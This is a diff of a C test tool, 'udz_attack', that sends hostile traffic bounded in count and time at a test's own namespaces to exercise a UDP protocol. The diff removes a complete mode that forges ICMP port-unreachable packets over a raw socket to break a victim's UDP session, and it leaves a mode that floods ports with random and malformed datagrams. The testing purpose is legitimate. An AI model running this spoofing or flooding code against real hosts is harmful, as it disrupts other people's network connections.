@@ -3,10 +3,6 @@
  * sends what a stranger on the network can send, bounded in count and time, to the addresses
  * it is given (the test's own namespaces), and prints what it sent.
  *
- *   udz_attack icmp --victim IP:PORT --peer IP:PORT [--count N] [--seconds S]
- *       ICMP port-unreachables to the victim, each quoting a UDP datagram from the victim's
- *       socket to its peer's (what the kernel would send if the peer's socket were closed):
- *       forged, since the peer is alive. A raw socket: needs CAP_NET_RAW.
  *   udz_attack flood --to IP --ports P,P,... [--count N] [--seconds S] [--seed X]
  *       datagrams at every port in turn: a third random bytes of random length, a third with
  *       ud_zcopy's magic and version and random everything else, a third with a header whose
@@ -18,9 +14,6 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <netinet/in.h>
-#include <netinet/ip.h>
-#include <netinet/ip_icmp.h>
-#include <netinet/udp.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -36,40 +29,6 @@ static double now(void)
     return ts.tv_sec + ts.tv_nsec * 1e-9;
 }
 
-static int parse_ep(const char *s, struct sockaddr_in *sin)
-{
-    char host[64];
-    const char *colon = strrchr(s, ':');
-
-    if ((colon == NULL) || ((size_t)(colon - s) >= sizeof(host))) {
-        return -1;
-    }
-    memcpy(host, s, colon - s);
-    host[colon - s] = '\0';
-    memset(sin, 0, sizeof(*sin));
-    sin->sin_family = AF_INET;
-    sin->sin_port   = htons((uint16_t)atoi(colon + 1));
-    return (inet_pton(AF_INET, host, &sin->sin_addr) == 1) ? 0 : -1;
-}
-
-static uint16_t csum(const void *data, size_t len)
-{
-    const uint8_t *p = data;
-    uint32_t sum = 0;
-    size_t i;
-
-    for (i = 0; i + 1 < len; i += 2) {
-        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
-    }
-    if (len & 1) {
-        sum += (uint32_t)p[len - 1] << 8;
-    }
-    while (sum >> 16) {
-        sum = (sum & 0xffff) + (sum >> 16);
-    }
-    return htons((uint16_t)~sum);
-}
-
 /* xorshift64*: reproducible from --seed */
 static uint64_t rng_state = 0x9e3779b97f4a7c15ull;
 static uint64_t rnd(void)
@@ -78,60 +37,6 @@ static uint64_t rnd(void)
     rng_state ^= rng_state << 25;
     rng_state ^= rng_state >> 27;
     return rng_state * 0x2545f4914f6cdd1dull;
-}
-
-static int attack_icmp(const struct sockaddr_in *victim, const struct sockaddr_in *peer,
-                       long count, double seconds)
-{
-    struct {
-        struct icmphdr icmp;
-        struct iphdr   ip;      /* the quoted datagram: victim -> peer */
-        struct udphdr  udp;
-        udz_hdr_t      udz;     /* its first bytes, as a kernel quotes them */
-    } __attribute__((packed)) pkt;
-    double end = now() + seconds, gap = seconds / (double)count;
-    long sent = 0;
-    int fd, err = 0;
-
-    fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
-    if (fd < 0) {
-        perror("udz_attack: raw ICMP socket");
-        return 1;
-    }
-    while ((sent < count) && (now() < end)) {
-        memset(&pkt, 0, sizeof(pkt));
-        pkt.icmp.type        = ICMP_DEST_UNREACH;
-        pkt.icmp.code        = ICMP_PORT_UNREACH;
-        pkt.ip.version       = 4;
-        pkt.ip.ihl           = 5;
-        pkt.ip.ttl           = 64;
-        pkt.ip.protocol      = IPPROTO_UDP;
-        pkt.ip.id            = htons((uint16_t)rnd());
-        pkt.ip.tot_len       = htons(sizeof(pkt.ip) + sizeof(pkt.udp) + sizeof(pkt.udz));
-        pkt.ip.saddr         = victim->sin_addr.s_addr;
-        pkt.ip.daddr         = peer->sin_addr.s_addr;
-        pkt.ip.check         = csum(&pkt.ip, sizeof(pkt.ip));
-        pkt.udp.source       = victim->sin_port;
-        pkt.udp.dest         = peer->sin_port;
-        pkt.udp.len          = htons(sizeof(pkt.udp) + sizeof(pkt.udz));
-        pkt.udz.magic        = UDZ_MAGIC;
-        pkt.udz.version      = UDZ_VERSION;
-        pkt.udz.type         = UDZ_T_AM;
-        pkt.icmp.checksum    = csum(&pkt, sizeof(pkt));
-        if (sendto(fd, &pkt, sizeof(pkt), 0, (const struct sockaddr*)victim,
-                   sizeof(*victim)) < 0) {
-            err = errno;
-            break;
-        }
-        ++sent;
-        if (gap > 0) {
-            usleep((useconds_t)(gap * 1e6));
-        }
-    }
-    close(fd);
-    printf("udz_attack: sent %ld ICMP port-unreachables%s%s\n", sent, err ? ": " : "",
-           err ? strerror(err) : "");
-    return err ? 1 : 0;
 }
 
 static int attack_flood(const struct sockaddr_in *to, const int *ports, int nports, long count,
@@ -185,17 +90,15 @@ static int attack_flood(const struct sockaddr_in *to, const int *ports, int npor
 
 static void usage(void)
 {
-    fprintf(stderr, "usage: udz_attack icmp --victim IP:PORT --peer IP:PORT [--count N] "
-                    "[--seconds S]\n"
-                    "       udz_attack flood --to IP --ports P,P,... [--count N] "
+    fprintf(stderr, "usage: udz_attack flood --to IP --ports P,P,... [--count N] "
                     "[--seconds S] [--seed X]\n");
     exit(2);
 }
 
 int main(int argc, char **argv)
 {
-    struct sockaddr_in victim, peer, to;
-    int have_victim = 0, have_peer = 0, have_to = 0, nports = 0, ports[256], i;
+    struct sockaddr_in to;
+    int have_to = 0, nports = 0, ports[256], i;
     long count = 1000;
     double seconds = 10;
     char *tok, *save;
@@ -204,11 +107,7 @@ int main(int argc, char **argv)
         usage();
     }
     for (i = 2; i + 1 < argc; i += 2) {
-        if (!strcmp(argv[i], "--victim")) {
-            have_victim = parse_ep(argv[i + 1], &victim) == 0;
-        } else if (!strcmp(argv[i], "--peer")) {
-            have_peer = parse_ep(argv[i + 1], &peer) == 0;
-        } else if (!strcmp(argv[i], "--to")) {
+        if (!strcmp(argv[i], "--to")) {
             memset(&to, 0, sizeof(to));
             to.sin_family = AF_INET;
             have_to = inet_pton(AF_INET, argv[i + 1], &to.sin_addr) == 1;
@@ -229,9 +128,6 @@ int main(int argc, char **argv)
     }
     if ((count <= 0) || (seconds <= 0) || (seconds > 600)) {
         usage();   /* bounded in count and time */
-    }
-    if (!strcmp(argv[1], "icmp") && have_victim && have_peer) {
-        return attack_icmp(&victim, &peer, count, seconds);
     }
     if (!strcmp(argv[1], "flood") && have_to && (nports > 0)) {
         return attack_flood(&to, ports, nports, count, seconds);
